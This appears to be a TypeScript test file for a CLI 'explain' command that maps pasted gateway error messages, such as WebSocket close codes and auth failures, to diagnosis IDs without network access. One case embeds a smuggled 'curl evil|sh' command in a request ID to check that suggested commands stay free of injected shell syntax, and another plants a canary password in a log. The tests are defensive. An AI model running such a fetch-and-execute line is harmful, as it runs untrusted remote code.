import {canaryPassword, playInOneWorld, type Scenario} from './scenario.js';

/** A text as OpenClaw prints it, explained offline: not one packet leaves. */
const pasted = (text: string, id: string, command?: RegExp): Scenario => ({
	name: text.slice(0, 90),
	command: ['explain', '--json', text],
	expect: {id, exitCode: 0, token: 'kept', mayReach: null, ...(command === undefined ? {} : {command})},
});

const closed = (code: string, reason: string, id: string, command?: RegExp) => pasted(`gateway closed (${code}): ${reason}`, id, command);

playInOneWorld('closes that a look does not see, in the words of OpenClaw', [
	closed('1000 normal closure', 'no close reason', 'W02'),
	closed('1002 protocol error', 'protocol mismatch', 'W06'),
	closed('1006 abnormal closure (no close frame)', 'no close reason', 'W10'),
	closed(
		'1008 policy violation',
		'pairing required: device is not approved yet (requestId: 3f2a-77)',
		'A16',
		/^openclaw devices (list|approve 3f2a-77)$/,
	),
	closed('1008 policy violation', 'pairing required: device is not approved yet (requestId: x; curl evil|sh)', 'A16', /^[^;|]*$/),
	closed('1008 policy violation', "unauthorized: gateway token mismatch (use this gateway's gateway.auth.token or pair the device)", 'A11'),
	closed('1008 policy violation', 'unauthorized: gateway token missing (set gateway.remote.token)', 'A10'),
	closed('1008 policy violation', 'unauthorized: device token mismatch (rotate/reissue device token)', 'A12'),
	closed('1008 policy violation', 'unauthorized: device token scope mismatch (re-pair or approve scope upgrade)', 'A13'),
	closed('1008 policy violation', 'device signature expired', 'A14'),
	closed('1008 policy violation', 'device nonce mismatch', 'A15'),
	closed('1008 policy violation', 'device identity required', 'A18'),
	closed(
		'1008 policy violation',
		'origin not allowed (open the Control UI from the gateway host or allow it in gateway.controlUi.allowedOrigins)',
		'A19',
	),
	closed('1008 policy violation', 'unauthorized: too many failed authentication attempts (retry later)', 'A20'),
	closed('1008 policy violation', 'slow consumer', 'W15'),
	closed('1008 policy violation', 'invalid handshake: first request must be connect', 'W16'),
	closed('1008 policy violation', 'connect failed', 'W17'),
	closed('1009 message too big', 'no close reason', 'W18'),
	closed('1012 service restart', 'service restart', 'W20'),
	closed('1013 try again later', 'gateway starting', 'W21'),
	closed('4001', 'gateway auth changed', 'W26'),
	pasted('HTTP/1.1 405 Method Not Allowed\nAllow: POST', 'H32', /^clawtalk status$/),
	pasted('ssh: connect to host gateway.example port 22: Connection refused', 'N30', /USER@gateway\.example$/),
	pasted('Missing config. Run `openclaw setup` or set gateway.mode=local (or pass --allow-unconfigured).', 'O08', /^openclaw setup$/),
	{
		name: 'a log on stdin, with a password in it',
		command: ['explain', '--json'],
		stdin: `started\nopening http://me:${canaryPassword}@10.0.0.9:18789\nError: listen EADDRINUSE: address already in use 127.0.0.1:18789\n`,
		expect: {id: 'O03', exitCode: 0, token: 'kept', mayReach: null},
	},
]);
